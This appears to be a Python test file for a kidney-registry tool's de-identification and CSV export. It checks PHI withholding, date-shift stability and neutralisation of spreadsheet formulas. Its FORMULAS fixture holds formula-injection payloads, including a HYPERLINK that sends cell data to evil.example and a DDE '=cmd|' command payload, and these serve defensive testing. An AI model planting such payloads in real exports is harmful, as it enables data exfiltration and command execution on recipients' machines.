"""De-identified exports under attack: free text hidden in coded-looking columns, repeated
exports compared to narrow the date shift, spreadsheet formulas in CSV cells."""

from __future__ import annotations

import copy
import csv
import datetime as dt
from pathlib import Path

import pytest
from sqlalchemy import Engine, text

from renalpath.registry.cells import formula_safe
from renalpath.registry.deidentify import (
    KEY_FILE_ENV,
    DeidentifyError,
    column_rule,
    deidentify_folder,
    export_deidentified,
)
from renalpath.registry.dictionary import FILES
from renalpath.registry.exporter import export_folder
from renalpath.registry.importer import import_folder
from tests.conftest import run_cli
from tests.registry.registry_fixtures import base_rows, write_folder

KEY = b"0123456789abcdef-research-key"
LEAK = "John Smith MRN 1234567"


def _read(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / FILES[name].filename).open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _all_text(folder: Path) -> str:
    return "".join(p.read_text(encoding="utf-8") for p in folder.glob("*.csv"))


def test_free_text_in_unit_and_equation_never_reaches_the_researcher(tmp_path: Path) -> None:
    rows = copy.deepcopy(base_rows())
    rows["labs"][2]["unit"] = LEAK  # haemoglobin: no unit rule at import
    rows["labs"].append(
        {
            "patient_id": "P2",
            "date": "2019-02-01",
            "test": "egfr",
            "value": "55",
            "unit": "mL/min/1.73m2",
            "equation": LEAK,
        }
    )
    src = write_folder(tmp_path / "reg", rows)
    done = deidentify_folder(src, tmp_path / "out", KEY)
    assert "John" not in _all_text(tmp_path / "out") and "1234567" not in _all_text(
        tmp_path / "out"
    )
    assert done.withheld == {"labs.unit": 1, "labs.equation": 1}
    labs = _read(tmp_path / "out", "labs")
    assert {lab["unit"] for lab in labs} <= {"mg/dL", "µmol/L", "mL/min/1.73m2"}
    assert any(lab["test"] == "egfr" and lab["equation"] == "" for lab in labs)


def test_every_column_has_a_deliberate_rule() -> None:
    """A text column nobody decided about is refused, not copied."""
    for spec in FILES.values():
        for col in spec.column_names:
            column_rule(spec, col)  # raises for an undecided text column
    from dataclasses import replace

    spec = FILES["events"]
    loose = replace(
        spec, columns=(*spec.columns, replace(spec.column("detail"), name="note", phi=None))
    )
    with pytest.raises(DeidentifyError, match="without a de-identification rule"):
        column_rule(loose, "note")


def test_repeated_exports_do_not_narrow_the_shift(
    engine: Engine, folder: Path, tmp_path: Path
) -> None:
    """A recipient of many exports intersects the birth dates each one allows (true date =
    shifted date + 1..364 days). With a persistent key every export shifts a patient by the
    same days, so the intersection stays 364 days wide."""
    import_folder(engine, folder)
    true_birth = {"P1": dt.date(1950, 1, 1), "P2": dt.date(1960, 5, 5)}
    windows: dict[str, set[dt.date]] = {}
    for n in range(5):
        out = tmp_path / f"export{n}"
        export_deidentified(engine, out, KEY)
        shifted = sorted(dt.date.fromisoformat(r["birth_date"]) for r in _read(out, "patients"))
        for i, birth in enumerate(shifted):
            allowed = {birth + dt.timedelta(days=d) for d in range(1, 365)}
            windows[str(i)] = windows.get(str(i), allowed) & allowed
    for window in windows.values():
        assert len(window) == 364
    assert any(min(w) <= true_birth["P1"] <= max(w) for w in windows.values())


def test_cli_refuses_a_one_off_key(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'r.db'}"
    assert (
        run_cli("import", str(write_folder(tmp_path / "reg", base_rows())), "--db", db).returncode
        == 0
    )
    done = run_cli(
        "export", str(tmp_path / "out"), "--deidentify", "--db", db, env={KEY_FILE_ENV: ""}
    )
    assert done.returncode == 1 and "persistent key" in done.stderr
    assert not (tmp_path / "out").exists()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
]


def test_formula_safe_cells() -> None:
    for formula in [*FORMULAS, "\rCR"]:
        assert formula_safe(formula) == "'" + formula
    for harmless in ("P1", "clear_cell", "1.5", "", "a=b"):
        assert formula_safe(harmless) == harmless


def test_csv_exports_neutralise_formulas(engine: Engine, folder: Path, tmp_path: Path) -> None:
    import_folder(engine, folder)
    with engine.begin() as conn:
        for n, formula in enumerate(FORMULAS):
            conn.execute(
                text(
                    "INSERT INTO patients (patient_id, sex, birth_date) "
                    "VALUES (:p, 'male', '1950-01-01')"
                ),
                {"p": formula},
            )
            conn.execute(
                text(
                    "INSERT INTO events (patient_id, date, type, detail) VALUES "
                    "(:p, '2020-01-01', 'last_followup', :d)"
                ),
                {"p": "P1" if n else formula, "d": formula},
            )
            if n:
                conn.execute(
                    text("UPDATE events SET date = :d WHERE detail = :f"),
                    {"d": f"2020-02-{n:02d}", "f": formula},
                )
    export_folder(engine, tmp_path / "full")
    for name in ("patients", "events"):
        for row in _read(tmp_path / "full", name):
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    ids = {r["patient_id"] for r in _read(tmp_path / "full", "patients")}
    assert "'=cmd|'/C calc'!A0" in ids
